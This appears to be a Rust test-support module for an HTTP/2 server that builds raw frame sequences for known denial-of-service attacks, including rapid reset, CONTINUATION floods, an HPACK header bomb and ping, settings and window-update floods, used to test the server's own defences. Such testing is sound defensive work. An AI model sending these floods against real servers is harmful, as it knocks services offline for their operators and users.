//! Floods over HTTP/2: what an attacker writes whom nobody has invited. Used by the tests, and by the benchmark that looks at how others
//! fare meanwhile.

use std::net::SocketAddr;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
    Seen, WINDOW_UPDATE, Wire, call, field, frame,
};

/// A method that exists.
const WATCH: &str = "/presence.bridge.v1.PresenceService/Watch";

/// How an attack goes.
pub struct Attack {
    pub name: &'static str,
    /// What is written, `n` times over.
    pub bytes: fn(n: u32) -> Vec<u8>,
}

/// What became of it.
#[derive(Debug)]
pub struct Repelled {
    /// What the attacker was told.
    pub seen: Seen,
    /// Whether he could write everything.
    pub wrote_all: bool,
}

impl Attack {
    /// Runs it `n` times over and waits until the connection is ended.
    pub async fn run(&self, address: SocketAddr, n: u32) -> Repelled {
        strike(address, &(self.bytes)(n)).await
    }
}

/// Writes all of it and waits until the connection is ended.
pub async fn strike(address: SocketAddr, bytes: &[u8]) -> Repelled {
    let mut wire = Wire::greet(address).await;
    let wrote_all = wire.say(bytes).await.is_ok();
    Repelled {
        seen: wire.ended().await,
        wrote_all,
    }
}

fn each_stream(n: u32, one: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..n).flat_map(|i| one(2 * i + 1)).collect()
}

fn opened(stream: u32, flags: u8) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | flags, stream, &call(WATCH))
}

/// What HTTP/2 itself puts an end to.
pub const RESETS: &[Attack] = &[
    Attack {
        name: "rapid reset",
        bytes: |n| {
            each_stream(n, |stream| {
                [
                    opened(stream, 0),
                    frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
                ]
                .concat()
            })
        },
    },
    Attack {
        name: "made you reset: a window that grows by nothing",
        bytes: |n| {
            each_stream(n, |stream| {
                [
                    opened(stream, 0),
                    frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()),
                ]
                .concat()
            })
        },
    },
    Attack {
        name: "made you reset: a window that grows too far",
        bytes: |n| {
            each_stream(n, |stream| {
                [
                    opened(stream, 0),
                    frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes()),
                ]
                .concat()
            })
        },
    },
    Attack {
        name: "made you reset: data after the end",
        bytes: |n| {
            each_stream(n, |stream| {
                [opened(stream, END_STREAM), frame(DATA, 0, stream, b"more")].concat()
            })
        },
    },
    Attack {
        name: "continuations without end",
        bytes: |n| {
            let mut bytes = frame(HEADERS, 0, 1, &call(WATCH));
            let more = frame(CONTINUATION, 0, 1, &field("x-more", "x", false));
            bytes.extend(more.repeat(n as usize));
            bytes
        },
    },
    Attack {
        name: "empty continuations without end",
        bytes: |n| {
            let mut bytes = frame(HEADERS, 0, 1, &call(WATCH));
            let more = frame(CONTINUATION, 0, 1, &[]);
            bytes.extend(more.repeat(n as usize));
            bytes
        },
    },
    Attack {
        name: "headers that unfold to megabytes",
        bytes: |n| {
            let bomb = |stream| {
                let mut block = call(WATCH);
                block.extend(field("x-long", &"x".repeat(3_900), true));
                // The newest entry of the table, over and over.
                block.resize(16 << 10, 0x80 | 0x3e);
                frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
            };
            each_stream(n.div_ceil(1_000), bomb)
        },
    },
    Attack {
        name: "empty data",
        bytes: |n| {
            let mut bytes = opened(1, 0);
            let more = frame(DATA, 0, 1, &[]);
            bytes.extend(more.repeat(n as usize));
            bytes
        },
    },
    Attack {
        name: "data byte by byte",
        bytes: |n| {
            let mut bytes = opened(1, 0);
            let more = frame(DATA, 0, 1, &[0]);
            bytes.extend(more.repeat(n as usize));
            bytes
        },
    },
];

/// What HTTP/2 allows, and only the pace at which a connection is read puts an end to.
pub const FLOODS: &[Attack] = &[
    Attack {
        name: "pings",
        bytes: |n| frame(PING, 0, 0, &[7; 8]).repeat(n as usize),
    },
    Attack {
        name: "empty settings",
        bytes: |n| frame(SETTINGS, 0, 0, &[]).repeat(n as usize),
    },
    Attack {
        name: "windows that grow by one",
        bytes: |n| frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()).repeat(n as usize),
    },
    Attack {
        name: "priorities",
        bytes: |n| {
            (0..n)
                .flat_map(|i| frame(PRIORITY, 0, 2 * i + 1, &[0, 0, 0, 0, 15]))
                .collect()
        },
    },
    Attack {
        name: "frames of a kind that does not exist",
        bytes: |n| frame(0xbe, 0, 0, &[0; 8]).repeat(n as usize),
    },
];
